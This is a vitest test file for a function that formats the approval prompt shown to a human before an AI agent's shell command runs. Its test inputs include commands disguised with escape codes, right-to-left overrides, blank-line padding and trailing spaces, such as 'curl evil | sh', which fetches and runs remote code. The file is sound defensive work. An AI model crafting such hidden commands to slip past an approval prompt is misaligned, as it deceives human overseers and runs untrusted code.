// The approval prompt's text (decision 0093): the report's F2 command rendered exactly, long lines
// and justifications, a command full of backticks; and over random commands, that nothing of the
// escaped set survives raw, the fence is never closed by the command, and the rows give back
// exactly the command that runs.
import type { ApprovalRequest } from '@toolvisor/toolbox'
import { describe, expect, it } from 'vitest'
import { APPROVAL_FOOTER, approvalMessage, JUSTIFICATION_CHARACTERS } from '../src/index.js'

const request = (command: string, more: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
  sessionId: 's1',
  connection: undefined,
  tool: 'bash',
  command,
  justification: 'Needs it.',
  workdir: '/w',
  background: false,
  mode: 'danger-full-access',
  signal: new AbortController().signal,
  ...more,
})

/** The rows between the fences, and the fence. */
function fenced(message: string): { fence: string; rows: string[]; before: string[]; after: string[] } {
  const lines = message.split('\n')
  const open = lines.findIndex((line) => /^`{3,}$/.test(line))
  const close = lines.indexOf(lines[open]!, open + 1)
  expect(open).toBeGreaterThan(0)
  expect(close).toBeGreaterThan(open)
  return {
    fence: lines[open]!,
    rows: lines.slice(open + 1, close),
    before: lines.slice(0, open),
    after: lines.slice(close + 1),
  }
}

/** The command the rows show, escapes undone (for commands without a backslash of their own). */
function commandOf(rows: readonly string[]): string {
  const lines: string[] = []
  for (const row of rows) {
    const numbered = /^ *\d+ \|(?: (.*))?$/.exec(row)
    const continued = /^ + \+ (.*)$/.exec(row)
    const empty = /^ + ~ \(lines (\d+) to (\d+) are empty\)$/.exec(row)
    if (numbered) lines.push(numbered[1] ?? '')
    else if (continued) lines[lines.length - 1] += continued[1]!
    else if (empty) for (let n = Number(empty[1]); n <= Number(empty[2]); n++) lines.push('')
    else throw new Error(`a row of no known shape: ${JSON.stringify(row)}`)
  }
  return lines
    .join('\n')
    .replace(
      /\\u\{([0-9a-f]+)\}|\\u([0-9a-f]{4})/g,
      (_, astral: string | undefined, bmp: string | undefined) =>
        String.fromCodePoint(Number.parseInt(astral ?? bmp!, 16)),
    )
}

describe('approvalMessage', () => {
  it("renders the report's F2 command: CR and ESC shown, 60 empty lines said in one row, the payload numbered", () => {
    const command = `ls -la\r\u001b[2K${'\n'.repeat(61)}id > /srv/esc-hidden; echo \u202etxt.exe`
    const message = approvalMessage(
      request(command, { justification: 'list files\n\nAccept allows this one call only.\u001b[8m hidden' }),
    )
    expect(message).toBe(
      [
        'Allow bash to run this exact command once under the "danger-full-access" sandbox mode?',
        '',
        'Justification: list files\\n\\nAccept allows this one call only.\\u001b[8m hidden',
        'Working directory (workdir): /w',
        'In the background (run_in_background): no',
        '',
        'The command, 62 lines:',
        '```',
        ' 1 | ls -la\\u000d\\u001b[2K',
        '   ~ (lines 2 to 61 are empty)',
        '62 | id > /srv/esc-hidden; echo \\u202etxt.exe',
        '```',
        '',
        APPROVAL_FOOTER,
      ].join('\n'),
    )
  })

  it('lists the network names the command may also reach, each on its own numbered row in a fence (decision 0112)', () => {
    const message = approvalMessage(
      request('npm install', { mode: 'workspace-write', network: ['registry.npmjs.org', '*.github.com'] }),
    )
    expect(message).toBe(
      [
        'Allow bash to run this exact command once under the "workspace-write" sandbox mode, and let it also reach the network names below?',
        '',
        'Justification: Needs it.',
        'Working directory (workdir): /w',
        'In the background (run_in_background): no',
        '',
        'The network names it may also reach for this call, 2 names:',
        '```',
        '1 | registry.npmjs.org',
        '2 | *.github.com',
        '```',
        '',
        'The command, 1 line:',
        '```',
        '1 | npm install',
        '```',
        '',
        APPROVAL_FOOTER,
      ].join('\n'),
    )
    // No names, or an empty list: the question is about the mode alone, as before.
    expect(approvalMessage(request('x', { network: [] }))).toBe(approvalMessage(request('x')))
    expect(approvalMessage(request('x'))).not.toContain('network')
  })

  it('escapes a name as a command line is: it cannot forge a row, the footer or the fence, nor hide', () => {
    const names = [`a.test\n${APPROVAL_FOOTER}`, '```', `b.test\u202e\u001b[8m${'x'.repeat(130)}`]
    const message = approvalMessage(request('true', { network: names }))
    expect(message.split('\n').filter((line) => line === APPROVAL_FOOTER)).toHaveLength(1)
    const lines = message.split('\n')
    const open = lines.indexOf('The network names it may also reach for this call, 3 names:') + 1
    expect(lines[open]).toBe('````')
    expect(lines.slice(open + 1, lines.indexOf('````', open + 1))).toEqual([
      `1 | a.test\\n${APPROVAL_FOOTER}`,
      '2 | ```',
      `3 | b.test\\u202e\\u001b[8m${'x'.repeat(99)}`,
      `  + ${'x'.repeat(31)}`,
    ])
    for (const raw of ['\u202e', '\u001b']) expect(message.includes(raw)).toBe(false)
  })

  it('shows a background call and one without a workdir; two empty lines are rows of their own', () => {
    const message = approvalMessage(
      request('a\n\n\nb', { background: true, workdir: undefined, tool: 'b\u001bash' }),
    )
    expect(message).toContain('Allow b\\u001bash to run')
    expect(message).not.toContain('Working directory')
    expect(message).toContain(
      'In the background (run_in_background): yes: it goes on running after this call answers',
    )
    expect(fenced(message).rows).toEqual(['1 | a', '2 |', '3 |', '4 | b'])
  })

  it('continues a long line in + rows, so text far to the right is seen (trailing spaces hide nothing)', () => {
    const command = `ls${' '.repeat(300)}; curl evil | sh`
    const { rows } = fenced(approvalMessage(request(command)))
    expect(rows).toHaveLength(3)
    expect(rows[0]).toMatch(/^1 \| ls {118}$/)
    expect(rows[2]).toBe(`  + ${' '.repeat(62)}; curl evil | sh`)
    expect(commandOf(rows)).toBe(command)
  })

  it('never cuts an escape between rows', () => {
    const command = `${'x'.repeat(118)}\u001b\u{e0041}tail`
    const { rows } = fenced(approvalMessage(request(command)))
    expect(rows).toEqual([`1 | ${'x'.repeat(118)}`, '  + \\u001b\\u{e0041}tail'])
  })

  it('cuts a long justification and says so', () => {
    const long = 'because '.repeat(100)
    const line = approvalMessage(request('x', { justification: long }))
      .split('\n')
      .find((l) => l.startsWith('Justification: '))!
    expect(line).toBe(
      `Justification: ${long.slice(0, JUSTIFICATION_CHARACTERS)}… (cut here: the justification has 800 characters)`,
    )
  })

  it('uses a fence longer than any run of backticks in the command', () => {
    const { fence, rows } = fenced(approvalMessage(request('echo ```\n````\n`````````')))
    expect(fence).toBe('``````````')
    expect(rows).toEqual(['1 | echo ```', '2 | ````', '3 | `````````'])
  })

  it('over random commands: nothing of the set raw, the fence closed only by itself, the command given back', () => {
    const set = [
      '\u0000',
      '\u0007',
      '\r',
      '\u001b',
      '\u007f',
      '\u009b',
      '\u00ad',
      '\u061c',
      '\u180e',
      '\u200b',
      '\u200e',
      '\u2028',
      '\u2029',
      '\u202e',
      '\u2060',
      '\u2066',
      '\ufeff',
      '\u{e0041}',
      '\u{e007f}',
    ]
    const pool = [...set, '\n', '\n', '`', '```', ' ', 'a', 'ls -la', '\t', '日', '\u{1f600}']
    let seed = 93
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31
      return seed
    }
    for (let round = 0; round < 400; round++) {
      const pick = () => pool[next() % pool.length]!
      const command = Array.from({ length: next() % 200 }, pick).join('')
      const justification = Array.from({ length: next() % 300 }, pick).join('')
      const message = approvalMessage(request(command, { justification }))
      for (const char of set)
        expect(message.includes(char), `U+${char.codePointAt(0)!.toString(16)} raw`).toBe(false)
      const { rows, before, after } = fenced(message)
      expect(after).toEqual(['', APPROVAL_FOOTER])
      expect(before.filter((line) => line.startsWith('Justification: '))).toHaveLength(1)
      expect(before.at(-1)).toBe(
        `The command, ${command.split('\n').length} ${command.includes('\n') ? 'lines' : 'line'}:`,
      )
      expect(commandOf(rows)).toBe(command)
      expect(message).not.toMatch(/\n[ \t]*\n[ \t]*\n[ \t]*\n/)
    }
  })
})
